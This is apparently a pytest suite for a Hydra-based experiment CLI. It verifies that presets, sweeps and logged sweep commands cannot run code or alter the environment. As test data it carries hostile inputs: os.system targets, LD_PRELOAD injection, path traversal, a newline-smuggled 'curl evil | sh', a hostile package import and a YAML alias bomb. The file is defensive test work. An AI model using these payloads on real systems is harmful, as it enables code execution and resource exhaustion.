"""Presets, sweeps and command lines from strangers describe experiments, and do nothing else."""

import json
import shlex

import pytest
from omegaconf import OmegaConf

from pear_cli.config.node import refuse_environment
from pear_cli.errors import ConfigError
from pear_cli.launch import guard
from pear_cli.launch.composing import composed
from pear_cli.store import sweeps
from pear_cli.store.sweeps import BOOK

LOGS = "job_logging: {handlers: {file: {%s}}}"

CODE = {
    "a callback": "callbacks: {x: {_target_: os.system, command: id}}",
    "another callback of pear's name": "callbacks: {pear: {_target_: os.system}}",
    "an argument of pear's own callback": "callbacks: {pear: {command: id}}",
    "a launcher": "launcher: {_target_: subprocess.Popen}",
    "a sweeper": "sweeper: {_target_: pear_cli.launch.jobs.train}",
    "a node inside the sweeper": "sweeper: {params: {x: {_target_: os.system}}}",
    "a factory of handlers": LOGS % '"()": os.system',
    "a class of handlers": LOGS % "class: logging.handlers.SocketHandler",
    "a class of formatters": "hydra_logging: {formatters: {plain: {class: os.system}}}",
    "a handler for a formatter, whose format is a file to write": (
        "job_logging: {formatters: {x: {class: logging.FileHandler, format: /tmp/x, datefmt: w}}}"
    ),
    "an object by name": LOGS % "delay: ext://os.environ",
    "a stream by name": "job_logging: {handlers: {stderr: {stream: ext://os.environ}}}",
    "attributes of a handler": LOGS % '".": {emit: x}',
    "a format that walks through objects": 'hydra_logging: {formatters: {plain: {style: "{"}}}',
}

WILL = {
    "the environment": "job: {env_set: {LD_PRELOAD: /tmp/x.so}}",
    "a copy of the environment": "job: {env_copy: [PATH]}",
    "an absolute folder of runs": "run: {dir: /tmp/elsewhere}",
    "a folder above": "run: {dir: outputs/../../elsewhere}",
    "a folder by the time": 'run: {dir: "outputs/${now:../..}"}',
    "a folder by an interpolation": 'sweep: {dir: "outputs/${seed}"}',
    "a hidden folder of the project": "sweep: {dir: .github}",
    "a folder of jobs above": "sweep: {subdir: ../x}",
    "a folder of configs above": "output_subdir: ../../x",
    "a job with a path for a name": "job: {name: ../../x}",
    "a log elsewhere": LOGS % "filename: /tmp/x.log",
    "a log above": LOGS % 'filename: "${hydra.runtime.output_dir}/../x.log"',
    "a text that is read elsewhere": 'job_logging: {formatters: {plain: {format: "${oc.env:HOME}"}}}',
}

HARMLESS = {
    "run: {dir: 'outputs/mine/${now:%Y-%m-%d}/x_1.5'}",
    "sweep: {dir: multirun/mine, subdir: 'job-${hydra.job.num}'}",
    "job: {name: mine, chdir: true}",
    "output_subdir: null",
    "mode: RUN",
    "verbose: [timm]",
    "sweeper: {max_batch_size: 2, params: {seed: '0,1'}}",
    "job_logging: {root: {level: DEBUG}, handlers: {file: {mode: w}}}",
    "hydra_logging: {formatters: {plain: {format: '%(message)s'}}}",
}


@pytest.fixture
def preset(tmp_path):
    """Write a preset of `experiment` with a node `hydra`, and compose it with further words."""

    def compose(hydra, *words):
        (tmp_path / "experiment").mkdir(exist_ok=True)
        text = f"# @package _global_\nhydra:\n  {hydra}\n"
        (tmp_path / "experiment" / "given.yaml").write_text(text)
        return composed(["experiment=given", *words], tmp_path)

    return compose


@pytest.mark.parametrize("hydra", CODE.values(), ids=CODE)
def test_a_preset_cannot_name_code(hydra, preset):
    with pytest.raises(ConfigError, match=r"is refused|does not compose|Merge error"):
        preset(hydra)


@pytest.mark.parametrize("hydra", WILL.values(), ids=WILL)
def test_what_only_the_user_may_say_is_refused_in_a_preset_and_taken_when_it_is_typed(hydra, preset):
    with pytest.raises(ConfigError, match="comes from a file") as error:
        preset(hydra)
    _, remedy = str(error.value).splitlines()
    (word,) = shlex.split(remedy.partition("add it to the command: ")[2])
    assert word.startswith("++hydra.")
    assert preset(hydra, word).seed == 0


@pytest.mark.parametrize("hydra", sorted(HARMLESS))
def test_presets_may_say_the_rest(hydra, preset):
    preset(hydra)


def test_a_class_that_is_typed_is_refused_as_well():
    for word in ("+hydra.callbacks.x._target_=os.system", "hydra.sweeper._target_=os.system"):
        with pytest.raises(ConfigError, match="is refused"):
            composed([word])


SLURM = {
    "_target_": "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher",
    "submitit_folder": "${hydra.sweep.dir}/.submitit/%j",
    "partition": None,
    "setup": None,
    "additional_parameters": {},
}
OPTUNA = {
    "_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper",
    "storage": None,
    "custom_search_space": None,
}


@pytest.mark.parametrize(
    ("group", "given", "says"),
    [
        ("launcher", {"partition": "gpu"}, None),
        ("launcher", {"partition": "gpu\ncurl evil | sh"}, "comes from a file"),
        ("launcher", {"partition": "${dataset.name}"}, "comes from a file"),
        ("launcher", {"setup": ["curl evil | sh"]}, "comes from a file"),
        ("launcher", {"additional_parameters": {"wrap": "id"}}, "comes from a file"),
        ("launcher", {"submitit_folder": "/tmp/elsewhere"}, "comes from a file"),
        ("sweeper", {"n_trials": 5, "params": {"optim.lr": "choice(1,2)"}}, None),
        ("sweeper", {"sampler": {"_target_": "optuna.samplers.RandomSampler", "seed": 1}}, None),
        ("sweeper", {"sampler": {"_target_": "os.system"}}, "names code"),
        ("sweeper", {"custom_search_space": "os.system"}, "names code"),
        ("sweeper", {"storage": "sqlite:////tmp/x.db"}, "comes from a file"),
    ],
)
def test_what_a_file_may_say_of_slurm_and_optuna(group, given, says, monkeypatch):
    defaults = {"launcher": SLURM, "sweeper": OPTUNA}
    monkeypatch.setattr(guard, "_installed", lambda group: {defaults[group]["_target_"]: defaults[group]})
    config = OmegaConf.create({"hydra": {group: {**defaults[group], **given}}})
    if says is None:
        guard.check(config, {})
        return
    with pytest.raises(ConfigError, match=says):
        guard.check(config, {})
    if says == "comes from a file":
        guard.check(config, {group: given})


def test_every_job_of_a_sweep_is_checked(pear, quiet, tmp_path):
    (tmp_path / "experiment").mkdir()
    hostile = "hydra: {job: {env_set: {LD_PRELOAD: x}}}"
    for name, text in {"good": "seed: 1", "bad": hostile}.items():
        (tmp_path / "experiment" / f"{name}.yaml").write_text(f"# @package _global_\n{text}\n")
    words = ("audit", "-m", *quiet, "--config-dir", str(tmp_path))
    (tmp_path / "benchmark").mkdir()
    sweep = "hydra: {mode: MULTIRUN, sweeper: {params: {experiment: 'good,bad'}}}"
    (tmp_path / "benchmark" / "both.yaml").write_text(f"# @package _global_\n{sweep}\n")
    for further in ("experiment=bad,good", "benchmark=both"):
        said = pear(*words, further)
        assert (said.code, said.out) == (1, ""), said.err
        assert "hydra.job.env_set.LD_PRELOAD = x comes from a file" in said.err


def test_a_root_config_imports_no_package(pear, quiet, tmp_path, monkeypatch):
    (tmp_path / "hostile").mkdir()
    (tmp_path / "hostile" / "__init__.py").write_text("raise SystemExit('it ran')")
    (tmp_path / "root.yaml").write_text("hydra: {searchpath: ['pkg://hostile']}\n")
    monkeypatch.syspath_prepend(tmp_path)
    said = pear("train", *quiet, "--config-dir", str(tmp_path), "--config-name", "root")
    assert said.code == 1
    assert "hydra.searchpath.0 = pkg://hostile comes from a file" in said.err


@pytest.mark.parametrize("laughs", ["a0: &a0 [x]", "a0: &a0 [*a0]"])
def test_a_preset_that_its_aliases_blow_up_is_refused_at_once(pear, quiet, tmp_path, laughs):
    more = [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 30)]
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "bomb.yaml").write_text("\n".join(["# @package _global_", laughs, *more]))
    said = pear("train", *quiet, "--config-dir", str(tmp_path), "experiment=bomb")
    assert (said.code, said.out) == (1, "")
    assert "bomb.yaml: its aliases make more than 100000 settings" in said.err


def test_a_preset_may_have_aliases(pear, quiet, tmp_path):
    (tmp_path / "experiment").mkdir()
    text = "# @package _global_\nseed: &n 3\noptim: {epochs: *n}\n"
    (tmp_path / "experiment" / "twice.yaml").write_text(text)
    said = pear("train", *quiet, "--config-dir", str(tmp_path), "experiment=twice", "--cfg", "job")
    assert said.code == 0
    assert "epochs: 3" in said.out


@pytest.mark.parametrize(
    ("changes", "key"),
    [
        ({"dataset": {"name": "${oc.env:HOME}"}}, "dataset.name"),
        ({"dataset": {"name": "${runtime.store}"}, "runtime": {"store": "${oc.env:HOME}"}}, "dataset.name"),
        ({"dataset": {"name": "${oc.${x}:HOME}"}, "x": "env"}, "dataset.name"),
        ({"backbone": {"args": {"a": ["${oc.env:HOME}"]}}}, "backbone.args"),
        ({"seed": "${oc.env:SEED}"}, "seed"),
        ({"seed": "${now:%S}"}, "seed"),
        ({"method": "${oc.env:HOME}"}, "method"),
        ({"runtime": {"store": "${oc.env:HOME}/store"}, "dataset": {"root": "${oc.env:HOME}"}}, None),
        ({"optim": {"lr": "${method.lr}"}, "method": {"lr": "${oc.decode:'0.1'}"}}, None),
    ],
)
def test_an_experiment_depends_on_nothing_that_is_not_in_its_config(changes, key):
    from hydra.core.utils import setup_globals

    setup_globals()
    config = OmegaConf.create({"seed": 0, "dataset": {"name": "digits"}, **changes})
    if key is None:
        refuse_environment(config)
        return
    with pytest.raises(ConfigError, match=f"^{key}.* depends on the environment"):
        refuse_environment(config)
    assert OmegaConf.create({"x": "${oc.env:HOME,there}"}).x  # as before


def a_line(place, **changes):
    line = {
        "command": "train",
        "words": ["-m", "seed=0,1"],
        "keep_going": True,
        "cwd": str(place),
        "folder": str(place / "there"),
        "jobs": [["seed=0"], ["seed=1"]],
        "size": 2,
        "started": "2026-01-01T00:00:00+00:00",
    }
    return json.dumps({**line, **changes}) + "\n"


def write_book(store, line):
    (store / BOOK).parent.mkdir(parents=True, exist_ok=True)
    (store / BOOK).write_text(line)


@pytest.mark.parametrize(
    "changes",
    [
        {"command": "report"},
        {"command": "os"},
        {"words": "-m"},
        {"words": [1]},
        {"jobs": [1]},
        {"folder": 5},
        {"folder": "relative"},
        {"folder": "/a\0b"},
        {"cwd": None},
        {"started": "yesterday"},
        {"size": "2"},
        {"keep_going": "rm"},
    ],
    ids=str,
)
def test_a_line_of_the_book_that_is_about_no_sweep_is_passed_over(changes, tmp_path):
    write_book(tmp_path, a_line(tmp_path, **changes))
    assert sweeps.noted(tmp_path) == []


def test_a_strangers_sweep_is_not_gone_on_with_where_there_is_none(pear, tmp_path):
    write_book(tmp_path / "store", a_line(tmp_path))
    (sweep,) = sweeps.noted(tmp_path / "store")
    said = pear("sweeps", "resume", sweep.id, "--store", "store")
    assert said.code == 1
    assert "has left nothing in" in said.err


def test_words_of_a_strangers_sweep_are_not_words_that_were_typed(pear, quiet, tmp_path, monkeypatch):
    environment = "++hydra.job.env_set.PEAR_EVIL=1"
    write_book(tmp_path / "store", a_line(tmp_path, words=["-m", *quiet, "seed=0,1", environment]))
    (tmp_path / "there" / "0" / ".hydra").mkdir(parents=True)
    (sweep,) = sweeps.noted(tmp_path / "store")
    ran = []

    def carry_out(cfg, *rest):
        ran.append(cfg.seed)
        return {"artifact": "/x"}

    monkeypatch.setattr("pear_cli.launch.jobs._carry_out", carry_out)
    resume = ("sweeps", "resume", sweep.id)
    said = pear(*resume, "--store", "store")
    assert (said.code, ran) == (1, [])
    assert "hydra.job.env_set.PEAR_EVIL = 1 comes from a file" in said.err
    assert pear(*resume, "seed=5", "--store", "store").code == 2
    assert pear(*resume, environment, "--store", "store").code == 0
    assert ran == [0, 1]
